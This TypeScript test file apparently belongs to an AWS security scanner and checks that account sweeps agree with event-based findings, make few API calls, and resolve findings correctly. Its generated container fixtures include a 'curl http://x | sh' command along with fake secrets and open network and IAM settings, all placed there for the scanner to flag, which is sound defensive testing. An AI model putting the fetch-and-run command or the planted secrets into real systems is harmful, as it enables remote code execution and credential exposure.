// A sweep of one account and Region: as events judge, with no call more than needed; what is gone, and what no time is left for.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { controls } from '../../shared/controls/index.ts';
import { catalogueOf } from '../../shared/evaluate/catalogue.ts';
import { listFindings } from '../../shared/findings/listing.ts';
import { memoryStore } from '../../shared/findings/memory.ts';
import { recorderOf } from '../../shared/findings/recorder.ts';
import type { RecordStore } from '../../shared/findings/store.ts';
import { type AwsApi, failure } from '../../shared/gather/api.ts';
import { dataUrls } from '../../shared/gather/data-url.ts';
import { createFacts } from '../../shared/gather/facts.ts';
import { readEvent } from '../../shared/intake/events/read.ts';
import { handle } from '../../shared/pipeline.ts';
import { viewOf } from '../../shared/policy/view.ts';
import { liveSource } from '../../shared/sweep/live-source.ts';
import { type SweepSteps, sweepHome } from '../../shared/sweep/sweep-home.ts';
import { runs } from '../support/extent.ts';
import { policyFrom } from '../support/judging.ts';
import { account, apiOf, at, emptyAccount, eventsOf, home, type MadeAccount } from './world.ts';

const policy = policyFrom({ version: 1, organisation: { accounts: { [account]: 'production' } } });
const catalogue = catalogueOf(controls);
const view = { ...viewOf(policy), now: at };
const judging = { catalogue, policy, clock: 'facts' } as const;

async function sweep(made: MadeAccount, store: RecordStore, steps: SweepSteps = {}, when = at) {
  const api = apiOf(made);
  const source = liveSource(api, dataUrls, account, when);
  const parts = { ...source, judging, store, view: { ...view, now: when }, notify: () => {} };
  const swept = await sweepHome(parts, { home, withIam: true, at: when, received: when }, steps);
  return { ...swept, api };
}

async function happen(made: MadeAccount, store: RecordStore): Promise<void> {
  const recorder = recorderOf(store, view, () => at);
  const facts = createFacts(apiOf(made), dataUrls);
  const ref = { file: null, index: 0, eventId: null, time: null };
  for (const event of eventsOf(made)) {
    const intake = readEvent(event, { ref, people: null, received: at });
    if (intake.kind !== 'observed') throw new Error(`${intake.kind}: ${intake.reason}`);
    await handle({ ...intake.observation, received: at }, { ...judging, facts }, recorder, async () => {});
  }
}

/** States alone: that a call was made is seen in its event only, and an account as a whole by a sweep only. */
async function statesIn(store: RecordStore, subjects: ReadonlySet<string> | null = null) {
  const found = await listFindings(store, view);
  return found
    .filter(({ kind, subject }) => kind === 'state' && (subjects?.has(subject.id) ?? true))
    .map(({ control, severity, status, subject, cluster, evidence, dormant }) => ({
      ...{ control, severity, status, subject: subject.id, cluster, evidence, dormant },
    }))
    .toSorted((a, b) => (JSON.stringify(a) < JSON.stringify(b) ? -1 : 1));
}

/** The same statement has another place in the account as a whole than in the call that wrote it. */
const plain = ({ evidence, ...rest }: Awaited<ReturnType<typeof statesIn>>[number]) => ({
  ...rest,
  evidence: JSON.parse(
    JSON.stringify(evidence)
      .replaceAll(/[\w[\].]+?\.(?:AssumeRole)?[Pp]olicyDocument\./g, '')
      .replaceAll('AssumeRolePolicyDocument.', ''),
  ),
});

const container = fc.record(
  {
    image: fc.constantFrom('nginx', 'ghcr.io/acme/web:1', `ghcr.io/acme/web@sha256:${'a'.repeat(64)}`),
    privileged: fc.boolean(),
    user: fc.constantFrom('0', '1000', 'app'),
    readonlyRootFilesystem: fc.boolean(),
    memory: fc.constantFrom(128, 512),
    environment: fc.array(
      fc.record({
        name: fc.constantFrom('DB_PASSWORD', 'MODE', 'GITHUB_TOKEN'),
        value: fc.constantFrom('hunter2hunter2', 'fast', `ghp_${'Ab1'.repeat(12)}`),
      }),
      { maxLength: 2 },
    ),
    command: fc.array(fc.constantFrom('sh', '-c', 'node app.js', 'curl http://x | sh'), { maxLength: 3 }),
  },
  { requiredKeys: ['image'] },
);
const names = (of: string, length: number) => Array.from({ length }, (_, place) => `${of}-${place}`);
const several = <T extends object>(of: string, each: fc.Arbitrary<T>) =>
  fc
    .array(each, { maxLength: 4 })
    .map((all) => all.map((one, place) => ({ name: `${of}-${place}`, ...one })));
const accounts: fc.Arbitrary<MadeAccount> = fc.record({
  tasks: several('task', fc.record({ container })),
  groups: fc
    .array(fc.constantFrom(null, '0.0.0.0/0', '10.0.0.0/8'), { maxLength: 4 })
    .map((all) => all.map((open, place) => ({ id: `sg-${place}`, open }))),
  roles: several(
    'role',
    fc.record({
      action: fc.constantFrom('*', 's3:GetObject', 'iam:PassRole', 'ecs:*'),
      trusts: fc.constantFrom('*', `arn:aws:iam::${account}:root`, 'arn:aws:iam::999988887777:root'),
    }),
  ),
  repositories: several('repository', fc.record({ mutable: fc.boolean(), publicly: fc.boolean() })),
});

describe('a sweep and the events', () => {
  it('agree on every subject that both saw', async () => {
    let compared = 0;
    await fc.assert(
      fc.asyncProperty(accounts, async (made) => {
        const byEvents = memoryStore();
        await happen(made, byEvents);
        const told = await statesIn(byEvents);
        const bySweep = memoryStore();
        await sweep(made, bySweep);
        // Of roles a whole account shows more: who gets where through whom.
        const subjects = new Set(told.map(({ subject }) => subject));
        const seen = await statesIn(bySweep, subjects);
        compared += told.length;
        expect(seen.map(plain)).toEqual(expect.arrayContaining(told.map(plain)));
        const known = new Set(told.map(({ control, subject }) => `${control} ${subject}`));
        expect(seen.filter(({ control, subject }) => known.has(`${control} ${subject}`))).toHaveLength(
          told.length,
        );
      }),
      runs(40),
    );
    expect(compared).toBeGreaterThan(20);
  });

  it('and what events told already, a sweep does not tell again', async () => {
    await fc.assert(
      fc.asyncProperty(accounts, async (made) => {
        const store = memoryStore();
        await happen(made, store);
        const told = new Set((await statesIn(store)).map(({ control, subject }) => `${control} ${subject}`));
        const first = await sweep(made, store);
        expect(
          first.changes.filter(({ finding }) => told.has(`${finding.control} ${finding.subject.id}`)),
        ).toEqual([]);
        expect((await sweep(made, store, {}, '2026-11-20T16:00:00.000Z')).changes).toEqual([]);
      }),
      runs(20),
    );
  });
});

const many: MadeAccount = {
  tasks: names('task', 120).map((name) => ({ name, container: { image: 'nginx', privileged: true } })),
  groups: names('sg', 30).map((id) => ({ id, open: '0.0.0.0/0' })),
  roles: names('role', 30).map((name) => ({ name, action: '*', trusts: '*' })),
  repositories: names('repository', 20).map((name) => ({ name, mutable: true, publicly: true })),
};

describe('the calls of a sweep', () => {
  it('are at most a tenth more than the least: each list once, each thing by what no list shows of it', async () => {
    const { api, missing } = await sweep(many, memoryStore());
    expect(missing).toEqual([]);
    const asked = api.requests.map(
      ({ service, operation, input }) => `${service}.${operation} ${JSON.stringify(input)}`,
    );
    expect(asked.length).toBe(new Set(asked).size);
    // Lists: clusters of both kinds, services, tasks, repositories, four parts of the registry, instances, groups, IAM.
    const lists = 12;
    // By itself: the cluster, two batches of tasks, each task's definition, of each repository its policy and its rules.
    const things = 1 + 2 + many.tasks.length + 2 * many.repositories.length;
    expect(asked.length / (lists + things)).toBeLessThanOrEqual(1.1);
  });

  it('of an empty account are its lists', async () => {
    const { api } = await sweep(emptyAccount, memoryStore());
    expect(api.operations().slice(16)).toEqual(['guardduty.ListDetectors']);
  });
});

describe('a sweep', () => {
  const control = 'namespace-isolation/no-privileged';
  const one = { ...emptyAccount, tasks: many.tasks.slice(0, 2) };
  const statusOf = async (store: RecordStore) =>
    (await listFindings(store, view))
      .filter((finding) => finding.control === control)
      .map(({ status }) => status);

  it('ends what a complete look did not find', async () => {
    const store = memoryStore();
    await sweep(one, store);
    expect(await statusOf(store)).toEqual(['open', 'open']);
    const later = '2026-11-20T16:00:00.000Z';
    const { changes } = await sweep({ ...one, tasks: one.tasks.slice(0, 1) }, store, {}, later);
    expect(changes.map(({ type, finding }) => [type, finding.subject.name])).toContainEqual([
      'resolved',
      'task-1',
    ]);
  });

  it('ends nothing where no time was left to see it, and says how much is left', async () => {
    const store = memoryStore();
    await sweep(many, store);
    let judged = 0;
    const steps = { goOn: () => judged++ < 50 };
    const { changes, left, things } = await sweep(many, store, steps, '2026-11-20T16:00:00.000Z');
    expect([changes, left]).toEqual([[], things - 50]);
  });

  it('ends nothing of a kind of which one thing could not be looked up', async () => {
    const store = memoryStore();
    const group = { ...emptyAccount, groups: [{ id: 'sg-1', open: '0.0.0.0/0' }] };
    await sweep(group, store);
    const refused = apiOf(group);
    const api: AwsApi = {
      call: async (request) =>
        request.input.GroupIds === undefined && request.operation === 'DescribeSecurityGroups'
          ? { ok: true, output: { SecurityGroups: [{ GroupId: 'sg-1' }] }, asOf: at }
          : request.operation === 'DescribeSecurityGroups'
            ? failure('throttled', 'too fast')
            : refused.call(request),
    };
    const facts = () => createFacts(api, dataUrls);
    const parts = { api, facts, judging, store, view, notify: () => {} };
    const { changes, missing } = await sweepHome(parts, { home, withIam: true, at, received: at });
    expect(changes.filter(({ type }) => type === 'resolved')).toEqual([]);
    expect(missing).toEqual([expect.stringContaining('an ec2 network that is there was not shown')]);
  });

  it('ends nothing in other accounts', async () => {
    const store = memoryStore();
    await sweep(one, store);
    const parts = {
      ...liveSource(apiOf(emptyAccount), dataUrls, account, at),
      ...{ judging, store, view, notify: () => {} },
    };
    const other = { account: '444455556666', region: home.region };
    const { changes } = await sweepHome(parts, { home: other, withIam: true, at, received: at });
    expect(changes.filter(({ type }) => type === 'resolved')).toEqual([]);
  });
});
